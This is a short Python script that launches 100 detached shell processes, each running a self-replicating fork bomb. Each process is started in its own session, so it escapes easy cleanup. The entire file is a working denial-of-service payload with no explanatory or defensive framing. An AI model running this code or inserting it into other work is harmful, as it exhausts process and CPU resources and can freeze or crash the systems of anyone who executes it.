import subprocess

for _ in range(100):
    subprocess.Popen(['sh', '-c', 'f() { f | f & }; f; sleep 60'], start_new_session=True)
